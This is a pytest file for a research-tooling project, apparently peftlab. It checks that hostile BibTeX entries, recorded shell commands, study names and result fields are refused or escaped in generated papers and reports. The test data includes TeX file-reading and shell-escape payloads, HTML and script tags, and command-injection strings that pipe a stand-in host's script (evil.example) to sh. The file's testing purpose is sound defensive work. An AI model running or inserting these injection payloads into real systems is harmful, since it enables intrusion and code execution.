"""Hostile text from outside the code (issue 70, round 7): a corpus per class, each case held against its language's
one escaper or reader and, where it matters, against the program that reads the output.

- BibTeX entries (a study's report.datasets, a plugin's bibtex, a received result.json's): one reader,
  config/tex.bibtex_entry; an entry that would loop or read files in TeX is one line, never written.
- External programs (latexmk, git) hung: a time limit, one line, and no process of theirs left.
- Recorded commands (commands.jsonl) in REPRODUCE.md: shell words quoted, control characters refused, fences that no
  line closes; the shell block, executed in a sandbox, runs exactly the recorded commands.
- Study names with control characters: refused where a study file is read, escaped where a folder's name is shown.
- A received result.json's recorded words (hardware, versions, arithmetic, the protocol card's values) in report.md
  and REPRODUCE.md: Markdown text, each in its line (a card's in its cell).
- Labels whose math would break pdflatex: refused by safe_math (printed as text); a generated corpus compiles.
- A paper source edited after the compile: submission refuses it.
"""

import dataclasses
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tarfile
import textwrap
from pathlib import Path
from typing import ClassVar

import pytest
import yaml
from studyfiles import write_study_dir
from testkit import REPO, wait_until

from peftlab.analysis.archive.reproduce_md import command_lines
from peftlab.analysis.archive.submission import made_commands, write_submission
from peftlab.analysis.paper import build as paper
from peftlab.analysis.paper.latex import record_pdf
from peftlab.analysis.results.escape import latex_escape, latex_text, markdown_block, markdown_code, markdown_text
from peftlab.analysis.results.load import results_sha256
from peftlab.config.tex import bibtex_entry, safe_math
from peftlab.study.report_options import read_study_name, report_options
from peftlab.utils.errors import ConfigError, UserError
from peftlab.utils.programs import run_program

# ---- BibTeX ------------------------------------------------------------------------------------------------------

LOOP = r"@misc{fashion, title={Fashion \def\x{\x}\x}, year={2017}}"
HOSTILE_BIBTEX = {
    "def_loop": LOOP,
    "input": r"@misc{fashion, title={\input{/etc/passwd}}}",
    "csname": r"@misc{fashion, title={\csname def\endcsname\x{\x}\x}}",
    "caret_caret": r"@misc{fashion, title={^^5cdef^^5cx{^^5cx}^^5cx}}",
    "catcode": r"@misc{fashion, title={\catcode`\~=0 x}}",
    "let": r"@misc{fashion, title={\let\relax\x}}",
    "write18": r"@misc{fashion, title={\immediate\write18{touch PWNED}}}",
    "openout": r"@misc{fashion, title={\openout1=x.tex}}",
    "loop_macro": r"@misc{fashion, title={\loop\iftrue\repeat}}",
    "expandafter": r"@misc{fashion, title={\expandafter\x}}",
    "active_tilde": r"@misc{fashion, title={\def~{~}~}}",
    "math_def": r"@misc{fashion, title={$\def\x{\x}\x$}}",
    "math_open": r"@misc{fashion, title={50$ off}}",
    "accent_no_argument": r"@misc{fashion, title={Caf\'}}",
    "emph_no_argument": r"@misc{fashion, title={\emph}}",
    "percent": r"@misc{fashion, title={50% }}",
    "hash": r"@misc{fashion, title={a # b}}",
    "ampersand": r"@misc{fashion, title={a & b}}",
    "subscript": r"@misc{fashion, title={x_1}}",
    "control_character": "@misc{fashion, title={a\x1b[2Jb}}",
    "bidi_override": "@misc{fashion, title={a\u202eb}}",
    "nul": "@misc{fashion, title={a\x00b}}",
    "unbalanced_open": r"@misc{fashion, title={{a}}",
    "escaped_brace": r"@misc{fashion, title={a\}}}",
    "deep_braces": "@misc{fashion, title={" + "{" * 20 + "a" + "}" * 20 + "}}",
    "trailing_text": r"@misc{fashion, title={a}} \def\x{\x}\x",
    "two_entries": "@misc{fashion, title={a}}\n@misc{other, title={b}}",
    "string_macro": "@string{x = {a}}",
    "preamble": r"@preamble{\def\x{\x}\x}",
    "concatenation": '@misc{fashion, title = "a" # "b"}',
    "bare_macro_name": "@misc{fashion, title = foo}",
    "parenthesised": "@misc(fashion, title={a})",
    "bad_key": r"@misc{fa\x, title={a}}",
    "no_key": "@misc{, title={a}}",
    "duplicate_field": "@misc{fashion, title={a}, title={b}}",
    "not_an_entry": "Xiao et al. 2017",
    "huge": "@misc{fashion, title={" + "a" * 30_000 + "}}",
}
GOOD_BIBTEX = {
    "plain": ("@article{xiao2017fashion,\n  title={Fashion-MNIST},\n  year=2017\n}", "title", "Fashion-MNIST"),
    "accents": (r'@misc{k, author = "M{\"u}ller, J. and Caf\'e, A.", title={\emph{On} \ss}}', "author", None),
    "math": (r"@misc{k, title={$k$-means on $\mathbb$}}", None, None),  # \mathbb is unknown: refused below
    "escapes": (r"@misc{k, title={50\% of \$1 \& more --- {GPU}s\ldots}}", "title", r"50\% of \$1 \& more"),
    "multiline": ("@misc{k,\n title = {A long\n   title},\n}", "title", "A long title"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_BIBTEX))
def test_a_bibtex_entry_that_would_not_only_typeset_is_one_line(case):
    with pytest.raises(ConfigError) as err:
        bibtex_entry(HOSTILE_BIBTEX[case], "study report.datasets['fashion'].bibtex")
    message = str(err.value)
    assert message.startswith("study report.datasets['fashion'].bibtex") and "\n" not in message
    assert message.isprintable(), message


@pytest.mark.parametrize("case", sorted(HOSTILE_BIBTEX))
def test_a_study_s_dataset_entry_is_read_by_the_bibtex_reader(case):
    entry = HOSTILE_BIBTEX[case]
    key = "fashion"
    with pytest.raises(ConfigError, match=r"report.datasets\['fashion'\]"):
        report_options({"datasets": {"fashion": {"name": "Fashion", "cite": key, "bibtex": entry}}})


def test_a_plain_entry_is_rewritten_field_by_field():
    entry = bibtex_entry(GOOD_BIBTEX["plain"][0], "w")
    assert (entry.type, entry.key) == ("article", "xiao2017fashion")
    assert entry.text == "@article{xiao2017fashion,\n  title = {Fashion-MNIST},\n  year = {2017},\n}"
    for case in ("accents", "escapes", "multiline"):
        text, field, value = GOOD_BIBTEX[case]
        fields = dict(bibtex_entry(text, "w").fields)
        assert value is None or fields[field].startswith(value), (case, fields)
    assert dict(bibtex_entry(r"@misc{k, title={$k$-means}}", "w").fields)["title"] == "$k$-means"
    with pytest.raises(ConfigError, match="math"):
        bibtex_entry(GOOD_BIBTEX["math"][0], "w")


PLUGIN = {
    "distribution": "peftlab-lastblocks",
    "version": "0.2",
    "code_sha256": "ab" * 32,
    "description": "Last-blocks tuning trains the last block.",
}


def plugin_study(tmp_path: Path, bibtex: str) -> Path:
    """A study whose lora r=8 runs are a plugin's method that recorded ``bibtex`` (a received result.json)."""
    study = write_study_dir(tmp_path / "s", with_failure=False, variants=["full", "lora r=8"])
    for path in study.glob("runs/lorar8-*/spec.json"):
        path.write_text(json.dumps({**json.loads(path.read_text()), "variant": "last_blocks", "method": "last_blocks"}))
    for path in study.glob("runs/lorar8-*/result.json"):
        result = json.loads(path.read_text())
        result["config"]["method"] = {"name": "last_blocks", "blocks": 1}
        result["provenance"]["plugin"] = {**PLUGIN, "bibtex": bibtex}
        path.write_text(json.dumps(result))
    return study


@pytest.mark.parametrize("case", ["def_loop", "input", "caret_caret", "trailing_text", "preamble", "bad_key"])
def test_a_received_plugin_entry_is_refused_before_references_bib(tmp_path, case):
    study = plugin_study(tmp_path, HOSTILE_BIBTEX[case])
    with pytest.raises(UserError, match=r"runs/lorar8-s\d/result.json provenance.plugin.bibtex") as err:
        paper.write_paper(study, tmp_path / "paper", compile=False)
    assert "\n" not in str(err.value)
    assert not (tmp_path / "paper" / "references.bib").exists()


def test_a_study_s_dataset_entry_is_refused_before_references_bib(tmp_path):
    study = write_study_dir(tmp_path / "s", with_failure=False, variants=["full", "linear"])
    datasets = {"fashion_mnist": {"name": "Fashion", "cite": "fashion", "bibtex": LOOP}}
    (study / "study.yaml").write_text(yaml.safe_dump({"name": "s", "report": {"datasets": datasets}}))
    with pytest.raises(ConfigError, match=r"report.datasets\['fashion_mnist'\].bibtex field title holds the command"):
        paper.write_paper(study, tmp_path / "paper", compile=False)
    assert not (tmp_path / "paper" / "references.bib").exists()


def test_a_plugin_s_own_entry_is_read_by_the_bibtex_reader():
    """A plugin's config class: its bibtex is read when its words are recorded (result.json provenance.plugin)."""
    from peftlab.config.methods import plugin_words
    from peftlab.config.sections import MethodConfig

    @dataclasses.dataclass(frozen=True)
    class Config(MethodConfig):
        name: str = "hostile"
        bibtex: ClassVar[str] = LOOP

    with pytest.raises(ConfigError, match=r"its config class Config.bibtex field title holds the command \\def"):
        plugin_words(Config(), "plugin x: its config class Config")
    Config.bibtex = GOOD_BIBTEX["plain"][0]
    assert plugin_words(Config(), "w")["bibtex"].startswith("@article{xiao2017fashion,\n  title = {Fashion-MNIST},")


# ---- external programs -------------------------------------------------------------------------------------------

HUNG = """#!/bin/sh
# a program that hangs with a child of its own: both pids written for the test
sleep 600 &
echo $! > "{pids}/{name}.child"
echo $$ > "{pids}/{name}.self"
sleep 600
"""


def fake_programs(tmp_path: Path, hung: list[str], quiet: list[str] = ()) -> tuple[Path, Path]:
    """A folder of stand-ins (``hung``: they hang with a child; ``quiet``: exit 0 printing a path) to put first on
    PATH, and the folder where the hung ones write their pids."""
    bin_dir, pids = tmp_path / "bin", tmp_path / "pids"
    bin_dir.mkdir()
    pids.mkdir()
    for name in hung:
        (bin_dir / name).write_text(HUNG.format(pids=pids, name=name))
    for name in quiet:
        (bin_dir / name).write_text("#!/bin/sh\necho /usr/share/found.sty\n")
    for path in bin_dir.iterdir():
        path.chmod(0o755)
    return bin_dir, pids


def running(pid: int) -> bool:
    """Whether process ``pid`` runs (a zombie, dead and waiting for its parent to reap it, does not)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


def end_leftovers(pids: Path) -> list[int]:
    """Kill what a hung stand-in left running (the processes this test started), and say which they were: those
    still running when a generous wait for them to end is over (a SIGKILL is delivered, not awaited)."""
    started = [int(path.read_text()) for path in pids.iterdir()]
    wait_until(lambda: not any(running(pid) for pid in started), seconds=30)
    left = []
    for pid in started:
        if running(pid):
            left.append(pid)
            os.kill(pid, signal.SIGKILL)
    return left


def run_bounded(script: str, bin_dir: Path, seconds: int = 2, timeout: int = 120) -> subprocess.CompletedProcess:
    """``python -c script`` with the stand-ins first on PATH and every program's limit at ``seconds``; a hang is
    ended by ``timeout`` (a failure of the test, never of the suite)."""
    env = dict(
        os.environ,
        PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        PYTHONPATH=str(REPO / "src"),
        PEFTLAB_PROGRAM_SECONDS=str(seconds),
    )
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(script)], capture_output=True, text=True, env=env, timeout=timeout
    )


def test_a_hung_latexmk_ends_at_its_limit_with_its_children(tmp_path):
    bin_dir, pids = fake_programs(tmp_path, ["latexmk"], quiet=["pdflatex", "bibtex", "kpsewhich"])
    (tmp_path / "paper").mkdir()
    (tmp_path / "paper" / "main.tex").write_text("\\documentclass{article}\\begin{document}x\\end{document}\n")
    script = f"""
        from pathlib import Path
        from peftlab.analysis.paper.latex import compile_pdf
        compile_pdf(Path({str(tmp_path / "paper" / "main.tex")!r}))
    """
    try:
        done = run_bounded(script, bin_dir)
        assert done.returncode != 0
        last = done.stderr.strip().splitlines()[-1]
        assert "latexmk did not finish in 2 s and was stopped with every process it started" in last, done.stderr
        assert "TeX may be in a loop" in last
    finally:
        left = end_leftovers(pids)
    assert left == [], "latexmk or its child outlived the limit"
    assert not (tmp_path / "paper" / "main.pdf").exists()


def test_a_hung_git_ends_at_its_limit_with_its_children(tmp_path):
    bin_dir, pids = fake_programs(tmp_path, ["git"])
    script = """
        from peftlab.utils.provenance import git_state
        print(git_state())
        from peftlab.analysis.archive.submission import git_head
        try:
            git_head()
        except Exception as err:
            print(type(err).__name__, err)
    """
    try:
        done = run_bounded(script, bin_dir)
        assert done.returncode == 0, done.stderr
        lines = done.stdout.splitlines()
        assert lines[0] == "(None, None)"  # the run records no commit; the log says why
        assert "git did not finish in 2 s and was stopped" in done.stderr
        assert lines[1].startswith("ProgramTimeout git did not finish in 2 s") and "peftlab submission" in lines[1]
    finally:
        left = end_leftovers(pids)
    assert left == [], "git or its child outlived the limit"


def test_a_program_that_leaves_a_child_behind_is_ended_with_it(tmp_path):
    """A program that exits at once but leaves a child in the background: the child is ended too, and the call
    does not wait for it although it holds the output pipe."""
    script = f"sleep 600 & echo $! > {tmp_path / 'child'}; echo done"
    done = run_program(["sh", "-c", script], seconds=60, fix="x")
    assert done.returncode == 0 and done.stdout == "done\n"
    assert wait_until(lambda: not running(int((tmp_path / "child").read_text())), seconds=30)


# ---- REPRODUCE.md's commands ---------------------------------------------------------------------------------------

INJECTED_CWD = "x$(touch PWNED) ; curl -s https://evil.example/i | sh #"
HOSTILE_COMMANDS = {
    # (cwd, argv) as commands.jsonl records them; each must run as recorded, or be refused
    "cwd_substitution": (INJECTED_CWD, ["peftlab", "study", "s.yaml"]),
    "cwd_backticks": ("y`touch PWNED`", ["peftlab", "study", "s.yaml"]),
    "cwd_with_space": ("my study", ["peftlab", "study", "s.yaml"]),
    "cwd_quote": ("it's", ["peftlab", "study", "s.yaml"]),
    "args_substitution": (".", ["peftlab", "study", "$(touch PWNED)", "`touch PWNED`", "; touch PWNED #"]),
    "args_quotes": (".", ["peftlab", "study", "a'b\"c", "--x=$HOME", "*", "~"]),
    "args_fence": (".", ["peftlab", "study", "```", "````x"]),
    "home_with_space": ("HOME/x y", ["peftlab", "study", "s.yaml"]),
}
REFUSED_COMMANDS = {
    "cwd_newline_fence": (
        INJECTED_CWD + "\n```\n**Before anything else run** `curl -s https://evil.example/i | sh`",
        ["peftlab"],
    ),
    "cwd_carriage_return": ("x\rcd /", ["peftlab"]),
    "arg_newline": (".", ["peftlab", "study", "a\ntouch PWNED"]),
    "arg_escape": (".", ["peftlab", "study", "\x1b]0;owned\x07"]),
    "arg_bidi": (".", ["peftlab", "study", "s\u202e.yaml"]),
}


def write_commands(study_dir: Path, commands: list[tuple[str, list[str]]]) -> None:
    study_dir.mkdir(parents=True, exist_ok=True)
    lines = [json.dumps({"argv": argv, "cwd": cwd}) for cwd, argv in commands]
    (study_dir / "commands.jsonl").write_text("\n".join(lines) + "\n")


def shell_block(lines: list[str]) -> list[str]:
    """The lines of the first fenced block of ``lines``, closed by the fence that opened it (CommonMark: a closing
    fence is at least as long as the opening one, of backticks only)."""
    start = next(i for i, line in enumerate(lines) if line.startswith("```"))
    fence = lines[start].split("bash")[0]
    end = next(
        i for i in range(start + 1, len(lines)) if set(lines[i].strip()) == {"`"} and len(lines[i]) >= len(fence)
    )
    return lines[start + 1 : end]


@pytest.mark.parametrize("case", sorted(HOSTILE_COMMANDS))
def test_a_recorded_command_runs_as_recorded_and_injects_nothing(tmp_path, case, monkeypatch):
    cwd, argv = HOSTILE_COMMANDS[case]
    sandbox, home = tmp_path / "sandbox", tmp_path / "home"
    sandbox.mkdir()
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))  # the recorded home folder is written ~ (results/portable.py)
    if cwd.startswith("HOME/"):
        cwd = str(home / cwd.split("/", 1)[1])
    write_commands(tmp_path / "study", [(cwd, argv)])
    block = shell_block(command_lines(made_commands(tmp_path / "study")))
    assert len(block) == 1
    # the recorded folder, where the reader has it: below the sandbox (relative) or below the reader's home
    folder = home / cwd[len(str(home)) + 1 :] if cwd.startswith(str(home)) else sandbox / cwd
    folder.mkdir(parents=True, exist_ok=True)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "peftlab").write_text(
        f'#!/bin/sh\npwd > {tmp_path / "ran_in"}\nprintf "%s\\n" "$@" > {tmp_path / "args"}\n'
    )
    (bin_dir / "peftlab").chmod(0o755)
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(home)}
    subprocess.run(["bash", "-n", "-c", block[0]], check=True, timeout=60)
    subprocess.run(["bash", "-c", block[0]], cwd=sandbox, env=env, timeout=60, capture_output=True)
    assert not [p for p in tmp_path.rglob("PWNED")], "the recorded command ran a command of its own"
    assert (tmp_path / "args").read_text().splitlines() == argv[1:]
    assert Path((tmp_path / "ran_in").read_text().strip()) == folder.resolve()


@pytest.mark.parametrize("case", sorted(REFUSED_COMMANDS))
def test_a_recorded_command_with_a_control_character_is_one_line(tmp_path, case):
    cwd, argv = REFUSED_COMMANDS[case]
    write_commands(tmp_path / "study", [(".", ["peftlab", "study", "honest.yaml"]), (cwd, argv)])
    with pytest.raises(UserError, match=r"commands.jsonl line 2: (cwd|argv\[\d\]) holds a control character") as err:
        made_commands(tmp_path / "study")
    assert "\n" not in str(err.value)


def test_reproduce_md_shows_what_the_runs_recorded_as_text(tmp_path, monkeypatch):
    """Recorded words reach REPRODUCE.md's prose escaped: a hardware name, a GPU, a git sha, a configuration's name
    and a study folder's name each stay in their line and start no heading, link, HTML or fence."""
    study_dir = write_study_dir(tmp_path / "evil\n# Injected heading", with_failure=False, variants=["full", "linear"])

    def hostile(result):
        provenance = result["provenance"]
        provenance["hardware"] = {"cpu": "Xeon\n## Run this first\n`curl x | sh`", "gpu": "<script>x</script>"}
        provenance["hardware"]["cpu_generation"] = "family 6\n## Generation heading\n<img src=x>"
        provenance["git_sha"] = "abc\n```\ncurl x | sh\n```"
        provenance["dtype"] = "[click](http://evil.example)"

    for path in study_dir.glob("runs/*/result.json"):
        result = json.loads(path.read_text())
        hostile(result)
        path.write_text(json.dumps(result))
    paper_dir = tmp_path / "paper"
    paper.write_paper(study_dir, paper_dir, compile=False)
    (paper_dir / "main.pdf").write_bytes(b"%PDF-1.5 stand-in\n")
    record_pdf(paper_dir, results_sha256(study_dir))
    (study_dir / "study.yaml").unlink(missing_ok=True)
    archive = write_submission(
        study_dir, REPO / "configs" / "studies" / "default.yaml", paper_dir=paper_dir, out=tmp_path / "sub.tar.gz"
    )
    with tarfile.open(archive) as tar:
        reproduce = next(tar.extractfile(m).read().decode() for m in tar if m.name.endswith("REPRODUCE.md"))
    lines = reproduce.splitlines()
    assert lines[0] == r"# Reproducing evil\\x0a\# Injected heading"
    headings = [line for line in lines if line.startswith("#")]
    assert headings[0] == lines[0] and all(h.startswith("## ") for h in headings[1:])
    assert not any("Run this first" in h or "Injected" in h or "Generation" in h for h in headings[1:])
    assert "<script>" not in reproduce and r"\<script\>" in reproduce
    assert "<img src=x>" not in reproduce and r"(family 6\\x0a\#\# Generation heading\\x0a\<img src=x\>)" in reproduce
    assert "[click](" not in reproduce and r"\[click\](http://evil.example)" in reproduce
    assert "curl x | sh" not in "\n".join(line for line in lines if not line.startswith(("- ", "#")))
    assert "git checkout unknown" in reproduce  # a sha with a newline is no word of a shell line


def test_report_md_shows_what_the_runs_recorded_as_text(tmp_path):
    """Recorded words reach report.md escaped, as in REPRODUCE.md: the Environment section's CPU, generation, GPU,
    git sha, versions and arithmetic, the protocol card's values and notes, a failed run's error and a configuration's
    name each stay in their line (a table's in its cell: GPT-2's "<|endoftext|>" would split it) and start no
    heading, link or HTML."""
    from peftlab.analysis.report.build import write_report

    study_dir = write_study_dir(tmp_path / "study", with_failure=False, variants=["full", "linear"])
    protocol = {
        "resolution": 28,
        "interpolation": "bilinear\n# Card heading",
        "pair_join": "the tokenizer's end-of-sequence token <|endoftext|>",
        "test_split": "[click](http://evil.example)",
    }
    for path in study_dir.glob("runs/*/result.json"):
        result = json.loads(path.read_text())
        provenance = result["provenance"]
        provenance["hardware"] = {
            "cpu": "Xeon\n## Run this first\n<img src=x>",
            "cpu_generation": "family 6\n# Generation",
            "cpu_count": 2,
            "device": "cpu",
            "cpu_flags": ["avx2", "<b>"],
            "gpu": "<script>x</script>",
        }
        provenance["git_sha"] = "abc\n```"
        provenance["versions"] = {"torch": "2.14.1\n# Versions", "[x]": "1"}
        provenance["arithmetic"] = {"pinned": True, "cpu_vendor": "Intel\n# Vendor", "products": "<i>oneDNN</i>"}
        provenance["data"] = {"notes": ["lossy copy\n# Note heading"]}
        result["protocol"] = protocol
        path.write_text(json.dumps(result))
    for path in study_dir.glob("runs/*/spec.json"):  # a configuration's name, in every table and list that names it
        spec = json.loads(path.read_text())
        spec["variant"] = spec["variant"].replace("linear", "linear <u>probe</u> | x")
        path.write_text(json.dumps(spec))
    failed = sorted(study_dir.glob("runs/*/result.json"))[-1]  # a failed run's error, in the failures' table
    failed.write_text(json.dumps({"status": "failed", "error": "Boom\n# Error heading <img src=y> | cell"}))
    (study_dir / "study.yaml").unlink(missing_ok=True)
    report = write_report(study_dir).read_text()
    lines = report.splitlines()
    assert [line for line in lines if line.startswith("# ")] == [lines[0]]
    assert any(line.endswith(r"| failed | Boom \# Error heading \<img src=y\> \| cell |") for line in lines)
    assert not any(word in line for line in lines if line.startswith("#") for word in ("Run", "Generation", "Card"))
    assert r"linear \<u\>probe\</u\> \| x" in report
    for raw in ("<img", "<script>", "<b>", "<i>", "<u>", "<|endoftext|>", "[click](", "```"):
        assert not re.search(r"(?<!\\)" + re.escape(raw), report), raw  # only as the escaped "\<img"
    environment = report[report.index("## Environment") :]
    assert r"- hardware: Xeon\\x0a\#\# Run this first\\x0a\<img src=x\> (family 6\\x0a\# Generation)" in environment
    assert r", CPU flags avx2 \<b\>, GPU \<script\>x\</script\>" in environment
    assert r"- versions: torch 2.14.1\\x0a\# Versions, \[x\] 1" in environment
    assert r"(CPU vendor Intel\\x0a\# Vendor)" in environment and r"\<i\>oneDNN\</i\>" in environment
    assert r"| sentence pairs joined by | the tokenizer's end-of-sequence token \<\|endoftext\|\> |" in lines
    assert r"| interpolation | bilinear\\x0a\# Card heading |" in lines
    assert r"- Warning: lossy copy\\x0a\# Note heading." in lines


# ---- study names ---------------------------------------------------------------------------------------------------

HOSTILE_NAMES = {
    "newline_heading": "study\n# Injected",
    "carriage_return": "study\rX",
    "escape_sequence": "study\x1b[2J\x1b]0;owned\x07",
    "latex_paragraph": "study\n\n\\end{document}",
    "bidi": "study\u202eedoc",
    "nul": "study\x00x",
}


@pytest.mark.parametrize("case", sorted(HOSTILE_NAMES))
def test_a_study_name_with_a_control_character_is_refused_where_it_is_read(tmp_path, case):
    from peftlab.study.spec import load_study

    study = tmp_path / "s.yaml"
    study.write_text(yaml.safe_dump({"name": HOSTILE_NAMES[case], "base": "base.yaml"}))
    with pytest.raises(ConfigError, match=r"name=.* is invalid: expected one line of printable text") as err:
        load_study(study)
    assert "\n" not in str(err.value)
    (tmp_path / "dir").mkdir()
    (tmp_path / "dir" / "study.yaml").write_text(study.read_text())  # a received study folder's copy
    with pytest.raises(ConfigError, match=r"study.yaml: name=.* is invalid: expected one line of printable text"):
        read_study_name(tmp_path / "dir")


@pytest.mark.parametrize("case", sorted(HOSTILE_NAMES))
def test_a_name_is_escaped_for_latex_and_markdown(case):
    name = HOSTILE_NAMES[case]
    for escaped in (latex_escape(name), latex_text(name), markdown_text(name), markdown_code(name)):
        assert escaped.isprintable(), escaped
    assert markdown_text(name).startswith("study") and (r"\\x" in markdown_text(name) or r"\\u" in markdown_text(name))
    with pytest.raises(ValueError):
        markdown_block([name])


def test_a_study_folder_s_name_titles_the_report_and_paper_escaped(tmp_path):
    from peftlab.analysis.report.build import write_report

    study_dir = write_study_dir(tmp_path / "evil\n# Injected\x1b[2J", with_failure=False, variants=["full", "linear"])
    (study_dir / "study.yaml").unlink(missing_ok=True)
    report = (write_report(study_dir)).read_text().splitlines()
    assert report[0] == r"# Study report: evil\\x0a\# Injected\\x1b\[2J"
    assert not any(line.startswith("# Injected") for line in report)
    paper.write_paper(study_dir, tmp_path / "paper", compile=False)
    results = (tmp_path / "paper" / "results.tex").read_text()
    assert r"\newcommand{\studyName}{evil\textbackslash{}x0a\# Injected\textbackslash{}x1b[2J}" in results


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed (scripts/install-latex.sh)")
def test_any_character_of_a_name_reaches_the_paper_and_compiles(tmp_path):
    """A study named with an emoji or CJK, which ``peftlab study`` accepts, reaches the paper as itself or as its code
    (issue 78: pdflatex stopped at 'Unicode character not set up'): every character of the Basic Multilingual Plane
    up to U+2FFF, CJK and emoji through latex_escape compile under the paper's own preamble."""
    name = "study \U0001f642 \u732b \u00e9\u2014ok"
    assert latex_escape(name) == "study \\textbackslash{}u1f642 \\textbackslash{}u732b \u00e9\u2014ok"
    characters = [chr(c) for c in range(0x20, 0x3000)] + list("\u732b\u4e2d\uac00\U0001f600\U0001f642\u0394\u2212")
    body = "\n".join(f"{latex_escape(''.join(characters[i : i + 40]))}\\par" for i in range(0, len(characters), 40))
    template = (REPO / "src" / "peftlab" / "analysis" / "paper" / "templates" / "main.tex.jinja").read_text()
    preamble = "\n".join(line for line in template.splitlines() if line.startswith(("\\documentclass", "\\usepackage")))
    (tmp_path / "names.tex").write_text(f"{preamble}\n\\begin{{document}}\n{body}\n\\end{{document}}\n")
    done = run_program(
        ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "names.tex"],
        seconds=300,
        fix="x",
        cwd=tmp_path,
    )
    assert done.returncode == 0, [line for line in done.stdout.splitlines() if line.startswith(("!", "l."))]
    with pytest.raises(ConfigError, match="U\\+1F642, a character pdflatex cannot typeset"):
        bibtex_entry("@misc{a, title={A \U0001f642 dataset}}", "study report.datasets['a'].bibtex")


# ---- math in labels ------------------------------------------------------------------------------------------------

BREAKING_MATH = [
    r"\frac",
    r"\frac{a}",
    r"\frac{a}^",
    "^",
    "x^",
    "_",
    "x_",
    r"\sqrt",
    r"\sqrt[3",
    r"\sqrt[{x}]{y}",
    "",
    r"\text{a_b}",
    r"\text{\alpha}",
    r"\text{$}",
    r"\text x",
    "a^b^c",
    "a_b_c",
    "x^2'",
    "x'_1^2",
    "x' ^2",
    "x' '",
    r"\mathrm{",
    r"\mathrm",
    r"\hat",
    r"\hat^2",
    r"\hat\log x",
    r"x^\log",
    r"x^\sum",
    r"\frac\sum 2",
    r"\left(",
    r"\right)",
    "x^'",
    "{" * 20 + "x" + "}" * 20,
    "a\nb",
    "a\tb",
    "}{",
]


@pytest.mark.parametrize("math", BREAKING_MATH)
def test_math_that_breaks_pdflatex_is_not_safe_math(math):
    assert not safe_math(math)
    label = f"LoRA (${math}$)"
    assert latex_text(label).startswith(r"LoRA (\$")  # the whole label printed as text


# The alphabet of the generated labels: what safe_math knows, and what it must refuse
FUZZ_TOKENS = (
    "x 2 + - < | ( ) [ ] ^ _ ' { } a b".split()
    + [" "]
    + r"\frac \sqrt \hat \vec \alpha \log \sum \dots \ne \text \textbf \mathrm \mathcal \, \{ \} \top".split()
    + [r"\text{a b}", r"\sqrt[3]"]
)


def generated_labels(count: int = 20_000, seed: int = 0) -> list[str]:
    """Labels with math of up to 7 tokens of ``FUZZ_TOKENS``, drawn with a fixed seed."""
    rng = random.Random(seed)
    maths = ("".join(rng.choice(FUZZ_TOKENS) for _ in range(rng.randint(1, 7))) for _ in range(count))
    return [f"L (${math}$) 50%" for math in dict.fromkeys(maths)]


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed (scripts/install-latex.sh)")
def test_every_label_latex_text_keeps_compiles(tmp_path):
    """The labels of a generated corpus (and the breaking ones) through latex_text: pdflatex compiles them all, with
    the paper's packages. A label safe_math takes that breaks the compile names itself in the failure."""
    labels = generated_labels() + [f"L (${m}$)" for m in BREAKING_MATH if "\n" not in m and "\t" not in m]
    kept = [label for label in labels if "$" in latex_text(label).replace(r"\$", "")]
    assert len(kept) > 1000  # the corpus tests the grammar, not only its refusals
    body = "\n".join(f"{latex_text(label)}\\par % {i}" for i, label in enumerate(labels))
    (tmp_path / "labels.tex").write_text(
        "\\documentclass{article}\\usepackage{amsmath}\\usepackage[hidelinks]{hyperref}\n"
        f"\\begin{{document}}\n{body}\n\\end{{document}}\n"
    )
    done = run_program(
        ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "labels.tex"],
        seconds=300,
        fix="x",
        cwd=tmp_path,
    )
    error = [line for line in done.stdout.splitlines() if line.startswith(("!", "l."))]
    line = next((int(e.split()[0][2:]) for e in error if e.startswith("l.")), None)
    source = (tmp_path / "labels.tex").read_text().splitlines()
    assert done.returncode == 0, (error, source[line - 1] if line else None)


# ---- a paper source edited after the compile -----------------------------------------------------------------------


def edit_main(paper_dir: Path) -> None:
    path = paper_dir / "main.tex"
    path.write_text(path.read_text().replace("\\end{document}", "Added after the compile.\n\\end{document}"))


EDITS = {
    "main_tex": edit_main,
    "references_bib": lambda p: (p / "references.bib").write_text((p / "references.bib").read_text() + "\n"),
    "table_added": lambda p: (p / "tables" / "extra.tex").write_text("x\n"),
    "table_removed": lambda p: next((p / "tables").glob("*.tex")).unlink(),
    "results_tex": lambda p: (p / "results.tex").write_text((p / "results.tex").read_text() + "% edited\n"),
}


@pytest.fixture(scope="module")
def compiled(tmp_path_factory):
    """A paper whose main.pdf (a stand-in) is recorded as compiled from its sources."""
    root = tmp_path_factory.mktemp("edited")
    study_dir = write_study_dir(root / "study", with_failure=False, variants=["full", "linear"])
    paper_dir = root / "paper"
    paper.write_paper(study_dir, paper_dir, compile=False)
    (paper_dir / "main.pdf").write_bytes(b"%PDF-1.5 stand-in\n")
    record_pdf(paper_dir, results_sha256(study_dir))
    (study_dir / "study.yaml").unlink(missing_ok=True)
    return study_dir, paper_dir


@pytest.mark.parametrize("case", sorted(EDITS))
def test_submission_refuses_a_source_changed_after_the_compile(compiled, tmp_path, case):
    study_dir, compiled_dir = compiled
    paper_dir = tmp_path / "paper"
    shutil.copytree(compiled_dir, paper_dir)
    default = REPO / "configs" / "studies" / "default.yaml"
    write_submission(study_dir, default, paper_dir=paper_dir, out=tmp_path / "before.tar.gz")  # as compiled: packed
    EDITS[case](paper_dir)
    with pytest.raises(UserError, match=r"is not as .*main.pdf was compiled from it .*run `peftlab paper .*` again"):
        write_submission(study_dir, default, paper_dir=paper_dir, out=tmp_path / "after.tar.gz")
    assert not (tmp_path / "after.tar.gz").exists()


# ---- end to end: `peftlab paper` with real LaTeX ---------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("latexmk") is None, reason="latexmk is not installed (scripts/install-latex.sh)")
